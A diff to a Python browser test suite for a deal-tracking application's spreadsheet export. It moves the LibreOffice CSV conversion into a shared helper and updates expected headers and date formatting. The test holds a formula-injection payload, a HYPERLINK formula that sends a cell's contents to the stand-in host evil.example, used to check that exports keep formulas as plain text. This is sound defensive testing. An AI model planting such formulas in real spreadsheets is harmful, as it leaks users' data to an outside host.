@@ -9,21 +9,19 @@ from __future__ import annotations
 
 import csv
 import io
-import shutil
-import subprocess
 from pathlib import Path
 
 import openpyxl
 import pytest
 import requests
 
+from tests.support import office
 from tests.support.auth import login_page
 from tests.support.processes import wait_until
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&B2;"Klikk her")'
-SOFFICE = shutil.which("soffice")
 
 
 @pytest.fixture(scope="module")
@@ -94,7 +92,7 @@ def test_the_xlsx_download_opens_in_openpyxl_with_every_deal(evening_with_deals,
     sheet = openpyxl.load_workbook(workbook_path).active
     rows = list(sheet.iter_rows(values_only=True))
     header, body = rows[0], rows[1:]
-    assert header[:4] == ("Nr.", "Status", "Part A", "Sektor A")
+    assert header[:5] == ("Nr.", "Status", "Part A", "Uanmeldt A", "Sektor A")
     assert "E-post A" in header and "Telefon B" in header and "Børsmegler" in header
     hub_deals = evening.hub_api("/api/deals")["deals"]
     assert len(body) == len(hub_deals) >= 3
@@ -110,32 +108,13 @@ def test_the_xlsx_download_opens_in_openpyxl_with_every_deal(evening_with_deals,
         assert all(cell.data_type != "f" for cell in row)
 
 
-@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
+@pytest.mark.skipif(office.SOFFICE is None, reason="LibreOffice (soffice) is not installed")
 def test_libreoffice_opens_the_download_and_keeps_formulas_as_text(
     evening_with_deals, page, tmp_path
 ):
     evening = evening_with_deals
     workbook_path = download_workbook(page, evening, tmp_path)
-    out = tmp_path / "converted"
-    profile = tmp_path / "lo-profile"
-    done = subprocess.run(
-        [
-            SOFFICE,
-            f"-env:UserInstallation={profile.as_uri()}",
-            "--headless",
-            "--norestore",
-            "--convert-to",
-            "csv:Text - txt - csv (StarCalc):44,34,76,1",  # comma, quotes, UTF-8
-            "--outdir",
-            str(out),
-            str(workbook_path),
-        ],
-        capture_output=True,
-        text=True,
-        timeout=180,
-    )
-    converted = out / (workbook_path.stem + ".csv")
-    assert done.returncode == 0 and converted.exists(), done.stdout + done.stderr
+    converted = office.to_csv(workbook_path, tmp_path / "converted")[workbook_path.stem + ".csv"]
 
     rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"))))
     header, body = rows[0], rows[1:]
@@ -147,4 +126,6 @@ def test_libreoffice_opens_the_download_and_keeps_formulas_as_text(
     assert hostile["Part A"] == EVIL
     assert hostile["A gir"] == "=1+1"
     bakery = next(r for r in records if r["Part A"] == "Kvernbakken Bakeri AS")
-    assert bakery["Part B"] == "Tårnlia sykehjem" and bakery["Tidsfrist"] == "2027-02-01"
+    assert (
+        bakery["Part B"] == "Tårnlia sykehjem" and bakery["Tidsfrist"] == "01.02.2027"
+    )  # a date, shown as one
